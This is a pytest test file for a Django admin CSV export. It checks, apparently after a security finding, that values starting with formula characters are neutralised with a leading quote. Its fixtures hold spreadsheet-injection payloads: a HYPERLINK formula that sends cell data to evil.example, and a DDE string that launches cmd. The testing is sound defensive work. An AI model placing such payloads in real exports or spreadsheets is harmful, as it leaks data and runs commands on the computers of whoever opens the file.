"""Finding 5: the CSV export never hands a spreadsheet a formula, in any column."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.admin import site as admin_site
from django.contrib.auth.models import User
from django.test import RequestFactory

from candidates.admin import EXPORT_COLUMNS, export_cell
from candidates.models import Candidate
from regions.models import Region

pytestmark = pytest.mark.django_db

CANDIDATES = "/admin/candidates/candidate/"
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"klik")'

# Where each exported column comes from, for the columns text can reach.
TEXT_SOURCES = {
    "id": (Candidate, "record_id"),
    "name": (Candidate, "name"),
    "email": (Candidate, "email"),
    "phone": (Candidate, "phone"),
    "phase": (Candidate, "phase"),
    "region": (Region, "code"),
    "environment": (Candidate, "environment"),
}


def _export(client, candidate) -> dict[str, str]:
    # Through the changelist action as staff use it. The list shows one environment at a time,
    # so a value the environment filter does not offer is exported by the action itself.
    candidate.refresh_from_db()
    if candidate.environment in ("production", "sandbox"):
        response = client.post(
            f"{CANDIDATES}?environment={candidate.environment}",
            {"action": "export_csv", "_selected_action": [candidate.pk]},
        )
        assert response.status_code == 200
    else:
        model_admin = admin_site._registry[Candidate]
        request = RequestFactory().post(CANDIDATES)
        request.user = User.objects.get(is_superuser=True)
        response = model_admin.export_csv(request, Candidate.objects.filter(pk=candidate.pk))
    header, row = list(csv.reader(io.StringIO(response.content.decode())))
    return dict(zip(header, row, strict=True))


def test_every_column_is_covered():
    assert set(TEXT_SOURCES) | {"archived", "updatedAt"} == set(EXPORT_COLUMNS)


@pytest.mark.parametrize("column", sorted(TEXT_SOURCES))
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_in_any_column_is_neutralised(superuser_client, own_candidate, column, start):
    model, attribute = TEXT_SOURCES[column]
    max_length = model._meta.get_field(attribute).max_length
    value = (start + HOSTILE[1:])[:max_length]
    row = own_candidate if model is Candidate else own_candidate.region
    model.objects.filter(pk=row.pk).update(**{attribute: value})
    exported = _export(superuser_client, own_candidate)
    assert exported[column] == "'" + value


def test_plain_values_are_exported_as_they_are(superuser_client, own_candidate):
    exported = _export(superuser_client, own_candidate)
    assert exported["phone"] == "+31612345678"  # a number, not a formula
    assert exported["archived"] == "False"
    assert exported["updatedAt"] == own_candidate.airtable_modified_at.isoformat()
    assert not any(cell.startswith(("=", "@", "'")) for cell in exported.values())


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("+31612345678", "+31612345678"),
        ("-12", "-12"),
        ("+31 6 1234", "+31 6 1234"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        (True, "True"),
    ],
)
def test_export_cell(value, expected):
    assert export_cell(value) == expected
